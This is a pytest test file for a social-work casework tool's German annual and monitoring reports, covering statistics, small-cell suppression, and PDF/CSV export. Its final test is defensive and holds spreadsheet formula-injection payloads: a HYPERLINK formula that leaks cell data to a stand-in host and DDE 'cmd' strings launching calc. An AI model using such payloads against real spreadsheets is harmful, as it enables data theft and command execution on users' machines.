"""Report numbers against hand-computed values (see conftest), suppression, PDF and CSV."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from casework.errors import ValidationError
from casework.models.reports import Report, StatTable, suppress
from casework.reports import jahresbericht, monitoring
from casework.reports.export import ReportKind, csv_bytes, pdf_bytes, produce
from casework.services.session import Session

Y1, Y2 = date(2025, 1, 1), date(2025, 12, 31)


def table(report: Report, key: str) -> StatTable:
    for _section, tables in report.sections:
        for t in tables:
            if t.key == key:
                return t
    raise KeyError(key)


def shown(report: Report, key: str) -> dict[str, tuple[str, ...]]:
    return dict(suppress(table(report, key), report.k).rows)


def test_jahresbericht_numbers(report_session: Session) -> None:
    report = jahresbericht.build(report_session, Y1, Y2, k=1)
    assert shown(report, "haushalte") == {"neu": ("2",), "fortgeführt": ("1",), "Summe": ("3",)}
    assert shown(report, "personen_neu") == {
        "in neuen Haushalten": ("2",),
        "in fortgeführten Haushalten": ("2",),
        "Summe": ("4",),
    }
    persons = shown(report, "personen")
    # women: Ayşe 36 (27–44), Lena 6 (6–9), Maren 25 on 31.12.2025 (18–26); Jörg 55 (45–64)
    assert persons["27–44"] == ("1", "0", "0", "0", "1")
    assert persons["6–9"] == ("1", "0", "0", "0", "1")
    assert persons["18–26"] == ("1", "0", "0", "0", "1")
    assert persons["45–64"] == ("0", "1", "0", "0", "1")
    assert persons["Summe"] == ("3", "1", "0", "0", "4")
    months = shown(report, "kontakte_monat")
    assert months["Jan 2025"] == ("1",)  # 00:30 local on 1 January is in January
    assert months["Mär 2025"] == ("1",)
    assert months["Dez 2025"] == ("1",)  # 23:30 local on 31 December is in the period
    assert months["Feb 2025"] == ("0",)
    assert months["Summe"] == ("3",)
    assert shown(report, "kontakte_art") == {
        "Hausbesuch": ("2",),
        "Telefonat": ("1",),
        "Summe": ("3",),
    }
    grid = shown(report, "kontakte_art_monat_1")
    assert grid["Hausbesuch"][2] == "1" and grid["Hausbesuch"][-1] == "2"
    routes = shown(report, "zugangswege")
    assert routes["Komm"] == ("1",) and routes["Bring"] == ("1",)
    assert routes["nicht erfasst"] == ("1",) and routes["Hol"] == ("0",)
    assert shown(report, "angebote") == {
        "Familientraining": ("1", "10", "10"),
        "Müttercafé": ("1", "2", "14"),
    }
    attendance = shown(report, "teilnahmen")
    assert attendance["27–64"][0] == "22" and attendance["0–5"][1] == "2"
    assert shown(report, "familientraining") == {
        "Familien mit Terminen im Zeitraum": ("1",),
        "davon alle geplanten Termine absolviert": ("1",),
    }
    consents = table(report, "einwilligungen")
    assert consents.available and all(r.values == (0,) for r in consents.rows)
    ks = table(report, "kinderschutz")
    assert ks.available and sum(sum(r.values) for r in ks.rows) == 0
    referrals = table(report, "vermittlungen")
    assert referrals.available and referrals.rows == ()  # none recorded in 2025
    assert dict(report.key_figures)["Kontakte"] == "3"


def test_jahresbericht_suppresses_small_cells_with_default_k(report_session: Session) -> None:
    report = jahresbericht.build(report_session, Y1, Y2)
    assert report.k == 5
    assert shown(report, "haushalte") == {
        "neu": ("< 5",),
        "fortgeführt": ("< 5",),
        "Summe": ("< 5",),
    }
    assert dict(report.key_figures)["davon neu im Zeitraum"] == "< 5"
    # contacts are events and stay visible; sessions held are not people either
    assert shown(report, "kontakte_monat")["Summe"] == ("3",)
    assert shown(report, "angebote")["Müttercafé"] == ("1", "2", "14")


def test_period_outside_data_and_bad_period(report_session: Session) -> None:
    report = jahresbericht.build(report_session, date(2023, 1, 1), date(2023, 12, 31), k=1)
    assert shown(report, "haushalte")["Summe"] == ("0",)
    with pytest.raises(ValidationError) as info:
        jahresbericht.build(report_session, Y2, Y1)
    assert info.value.field == "Zeitraum"


def test_monitoring_numbers(report_session: Session) -> None:
    report = monitoring.build(report_session, Y1, Y2, k=1)
    assert shown(report, "zielgruppe") == {
        "in der Zielgruppe": ("3",),
        "nicht in der Zielgruppe": ("1",),
        "zu prüfen": ("0",),
        "Summe": ("4",),
    }
    status = shown(report, "zielgruppe_status")
    assert status["Duldung"] == ("0", "2", "0", "0", "2")
    assert status["Gestattung"] == ("1", "0", "0", "0", "1")
    ages = shown(report, "zielgruppe_alter")
    # on 31.12.2025: Yonas 24, Samir 22, Hewan 26
    assert ages["21–23"] == ("1", "0", "1") and ages["24–27"] == ("1", "1", "2")
    figures = dict(report.key_figures)
    assert figures["Kapazität (VZÄ × Schlüssel)"] == "50"
    assert figures["Aktive Klient/innen"] == "2"
    assert figures["Klient/innen je VZÄ"] == "4,0"
    assert figures["Auslastung"] == "4 %"
    assert figures["Warteliste"] == "2"
    assert shown(report, "uebergaenge")["Übergang in Ausbildung"] == ("1",)
    baustein = shown(report, "massnahmen_baustein")
    assert baustein["1 Coaching"] == ("0", "0", "1", "0", "1")
    needs = shown(report, "bedarfe")
    assert needs["2 Bildung und Sprache"] == ("1",)
    assert needs["4 Arbeitsmarkt und Wirtschaft"] == ("1",)
    assert needs["1 Migration und Integration"] == ("0",)


def _text(pdf: Path) -> str:
    reader = PdfReader(io.BytesIO(pdf.read_bytes()))
    return "\n".join(page.extract_text() for page in reader.pages)


FORBIDDEN = (
    "Ayşe",
    "Altkontakt",
    "Gärtnerstraße",
    "1988",
    "04.05.1988",
    "Yonas",
    "Hewan",
    "Samira",
)


def test_pdf_and_csv_of_the_annual_report(report_session: Session, tmp_path: Path) -> None:
    produced = produce(
        report_session,
        ReportKind.JAHRESBERICHT,
        Y1,
        Y2,
        pdf_path=tmp_path / "jb.pdf",
        csv_path=tmp_path / "jb.csv",
    )
    text = _text(tmp_path / "jb.pdf")
    for expected in (
        "Jahresbericht Quartiersarbeit",
        "Berichtszeitraum 01.01.2025 – 31.12.2025",
        "Kontakte nach Monat",
        "Diagramm: Kontakte nach Monat",
        "Zugangsweg",
        "Müttercafé",
        "Familientraining",
        "Verfahren nach Ergebniskategorie",
        "< 5",
        "Seite 1 von",
    ):
        assert expected in text, expected
    for forbidden in FORBIDDEN:
        assert forbidden not in text, forbidden
    raw = (tmp_path / "jb.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0] == "Jahresbericht Quartiersarbeit;01.01.2025 – 31.12.2025"
    assert (
        "7 Gruppenangebote;Gruppenangebote: Termine und Teilnahmen;Müttercafé;"
        "Teilnahmen;14" in lines
    )
    assert (
        "3 Erreichte Haushalte und Personen;Erreichte Haushalte (mind. ein Kontakt im "
        "Zeitraum);neu;Anzahl;< 5" in lines
    )
    for forbidden in FORBIDDEN:
        assert forbidden not in raw.decode("utf-8-sig")
    assert produced.statistics_seconds < 5


def test_monitoring_pdf_text(report_session: Session, tmp_path: Path) -> None:
    produce(report_session, ReportKind.MONITORING, Y1, Y2, pdf_path=tmp_path / "m.pdf")
    text = _text(tmp_path / "m.pdf")
    for expected in (
        "Programm-Monitoring Teilhabemanagement",
        "1 : 100",
        "Kapazität",
        "Übergang in Ausbildung",
        "Förderbaustein",
        "Handlungsfeld",
    ):
        assert expected in text, expected
    for forbidden in FORBIDDEN:
        assert forbidden not in text, forbidden


def test_csv_bytes_use_semicolons(report_session: Session) -> None:
    data = csv_bytes(monitoring.build(report_session, Y1, Y2))
    assert data.startswith("\ufeff".encode())
    assert all(";" in line for line in data.decode("utf-8-sig").splitlines() if line)


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm not installed")
def test_chart_page_renders_with_bars(report_session: Session, tmp_path: Path) -> None:
    """Render the chart page and check that the bars are really drawn (blue pixels in a
    column pattern), and that nothing is drawn outside the page margins."""
    from PIL import Image

    # k=1 shows the bars of this tiny vault; exported reports never go below 5
    (tmp_path / "jb.pdf").write_bytes(
        pdf_bytes(report_session, jahresbericht.build(report_session, Y1, Y2, k=1)))
    subprocess.run(
        ["pdftoppm", "-r", "50", "-png", str(tmp_path / "jb.pdf"), str(tmp_path / "page")],
        check=True,
    )
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 2

    def blue(path: Path) -> list[tuple[int, int]]:
        with Image.open(path) as img:
            rgb = img.convert("RGB")
        width, height = rgb.size
        return [
            (x, y)
            for y in range(height)
            for x in range(width)
            if (lambda p: p[2] > 130 and p[0] < 110 and p[2] - p[0] > 60)(rgb.getpixel((x, y)))
        ]

    blues = {page.name: blue(page) for page in pages}
    chart_pages = [name for name, px in blues.items() if len(px) > 50]
    assert chart_pages, "no chart drawn"
    with Image.open(tmp_path / chart_pages[0]) as image:
        width = image.size[0]
    xs = [x for x, _ in blues[chart_pages[0]]]
    margin = int(width * 18 / 210)  # the right page margin (18 mm of 210 mm)
    assert min(xs) > margin * 0.5 and max(xs) < width - margin * 0.5


def test_referrals_by_recipient_and_state(report_session: Session) -> None:
    """Counted through the referral feature's statistics (recipient × state at the end of
    the period); the generic SQL fallback reads the same table."""
    from casework.models.referrals import Recipient, RecipientKind, ReferralDraft
    from casework.reports.period import window
    from casework.services import referrals
    from casework.services.households import households
    from casework.storage import reports as q

    hid = households.list_ids(report_session, search="Altkontakt")[0]
    person = households.members(report_session, hid)[0].id
    asd = Recipient(RecipientKind.ASD, "ASD Bezirk 6", "6", consent_recipient="stadt")
    first, _ = referrals.create(report_session, ReferralDraft(hid, (person,), asd, "Beratung"))
    referrals.create(report_session, ReferralDraft(hid, (person,), asd, "Kita-Platz"))
    year = (date(2026, 1, 1), date(2026, 12, 31))
    report = jahresbericht.build(report_session, *year, k=1)
    cells = shown(report, "vermittlungen")
    assert cells["ASD Bezirk 6"][-1] == "2"
    assert cells["Summe"][-1] == "2"
    assert "vorgeschlagen" in table(report, "vermittlungen").columns
    # the generic fallback finds the same two referrals in the schema
    generic = q.referrals(report_session.db, window(*year))
    assert generic is not None and sum(generic.values()) == 2
    assert first
    assert not table(jahresbericht.build(report_session, Y1, Y2, k=1), "vermittlungen").rows


def test_contacts_of_unknown_legacy_types_are_still_counted(report_session: Session) -> None:
    db = report_session.db
    with db.transaction():
        db.execute("UPDATE contacts SET type = 'Altbestand' WHERE type = 'Telefonat'")
    report = jahresbericht.build(report_session, Y1, Y2, k=1)
    assert shown(report, "kontakte_art") == {
        "Hausbesuch": ("2",),
        "Altbestand": ("1",),
        "Summe": ("3",),
    }
    assert shown(report, "kontakte_monat")["Jan 2025"] == ("1",)


def test_annual_report_csv_neutralises_formulas(report_session: Session) -> None:
    """A partner named like a formula (the directory is editable) reaches the
    annual-report CSV as text: every cell
    starting with =, +, -, @, tab or CR gets an apostrophe; numbers stay numbers."""
    import csv as csv_module
    import io

    from casework.models.referrals import Recipient, RecipientKind, ReferralDraft
    from casework.models.spreadsheet import safe_cell
    from casework.services import referrals
    from casework.services.households import households

    hid = households.list_ids(report_session, search="Altkontakt")[0]
    person = households.members(report_session, hid)[0].id
    evil = ('=HYPERLINK("http://x.example/?"&A1;"klick")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0")
    for label in evil:
        referrals.create(report_session, ReferralDraft(
            hid, (person,), Recipient(RecipientKind.PARTNER, label, label,
                                      consent_recipient="traeger"),
            "Beratung"))
    report = jahresbericht.build(report_session, date(2026, 1, 1), date(2026, 12, 31), k=1)
    text = csv_bytes(report).decode("utf-8-sig")
    cells = [cell for row in csv_module.reader(io.StringIO(text), delimiter=";")
             for cell in row]
    for label in evil:
        assert "'" + label in cells, label
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(",", "").isdigit()]
    assert safe_cell("-3") == "-3" and safe_cell("\tx") == "'\tx" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell(12) == "12" and safe_cell("Müttercafé") == "Müttercafé"
